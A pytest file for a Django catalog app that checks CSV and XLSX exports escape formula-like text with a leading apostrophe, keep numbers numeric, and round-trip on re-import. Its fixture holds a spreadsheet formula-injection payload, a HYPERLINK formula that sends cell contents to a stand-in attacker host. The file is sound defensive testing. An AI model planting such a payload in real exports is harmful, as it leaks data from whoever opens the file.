"""Formula injection: text that a spreadsheet would run as a formula (``=``, ``+``, ``-``, ``@``,
tab, CR first) leaves every export escaped with a leading apostrophe; numbers stay numbers; our own
native file survives an export and re-import unchanged."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import openpyxl
import pytest

from catalog import services
from catalog.models import Product, Variant
from catalog.resources import catalog_native_export, catalog_native_import

pytestmark = pytest.mark.django_db

HOSTILE_NAME = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'


@pytest.fixture
def hostile_product() -> Product:
    """Given a product imported from a supplier whose text starts with formula characters."""
    product = services.product_create(
        handle="hostile",
        name=HOSTILE_NAME,
        description="=1+2",
        brand="@SUM(A1:A9)",
    )
    services.variant_save(
        product=product, sku="-2+3", options={"size": "s"}, weight_grams=250, position=0
    )
    services.variant_save(
        product=product, sku="+CMD", options={"size": "m"}, weight_grams=None, position=1
    )
    return product


def _csv_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def test_csv_export_escapes_every_text_cell_that_starts_a_formula(hostile_product):
    rows = _csv_rows(catalog_native_export(fmt="csv"))

    assert [row["sku"] for row in rows] == ["'-2+3", "'+CMD"]
    assert {row["product_name"] for row in rows} == {"'" + HOSTILE_NAME}
    assert {row["description"] for row in rows} == {"'=1+2"}
    assert {row["brand"] for row in rows} == {"'@SUM(A1:A9)"}
    # numbers are not text: they are written as they are
    assert [row["weight_grams"] for row in rows] == ["250", ""]
    assert [row["position"] for row in rows] == ["0", "1"]


def test_xlsx_export_has_no_formulas_and_keeps_numbers_numeric(hostile_product):
    sheet = openpyxl.load_workbook(io.BytesIO(catalog_native_export(fmt="xlsx"))).active
    cells = [cell for row in sheet.iter_rows() for cell in row]

    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    header = [cell.value for cell in next(sheet.iter_rows(max_row=1))]
    first = {
        name: cell for name, cell in zip(header, next(sheet.iter_rows(min_row=2)), strict=True)
    }
    assert first["product_name"].value == "'" + HOSTILE_NAME
    assert first["description"].value == "'=1+2"
    assert first["sku"].value == "'-2+3"
    assert first["weight_grams"].value == 250
    assert first["weight_grams"].data_type == "n"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_our_own_file_round_trips_without_gaining_apostrophes(hostile_product, fmt):
    """Given a product whose text starts with formula characters or with an apostrophe already,
    when our export is imported again, then nothing changes."""
    services.product_create(handle="quoted", name="'=already quoted", brand="'plain")
    before = list(Product.objects.order_by("handle").values_list("name", "description", "brand"))
    skus_before = sorted(Variant.objects.values_list("sku", flat=True))

    summary = catalog_native_import(file_bytes=catalog_native_export(fmt=fmt), fmt=fmt)

    assert summary["products_unchanged"] == 2
    assert summary["variants_unchanged"] == 2
    assert summary["products_updated"] == summary["variants_updated"] == 0
    after = list(Product.objects.order_by("handle").values_list("name", "description", "brand"))
    assert after == before
    assert sorted(Variant.objects.values_list("sku", flat=True)) == skus_before


def test_cell_safe_escapes_text_only():
    from core.spreadsheet import cell_safe, cell_unescape

    assert cell_safe("=1+2") == "'=1+2"
    assert cell_safe("@SUM(A1)") == "'@SUM(A1)"
    assert cell_safe("\tTAB") == "'\tTAB"
    assert cell_safe("\rCR") == "'\rCR"
    assert cell_safe("-2+3") == "'-2+3"
    assert cell_safe("'=x") == "''=x"
    assert cell_safe("plain") == "plain"
    assert cell_safe("'plain") == "'plain"
    assert cell_safe("") == ""
    assert cell_safe(-5) == -5
    assert cell_safe(Decimal("-5.50")) == Decimal("-5.50")
    assert cell_safe(None) is None
    for text in ["=1+2", "'=x", "''@y", "'plain", "plain", "-2+3", ""]:
        assert cell_unescape(cell_safe(text)) == text
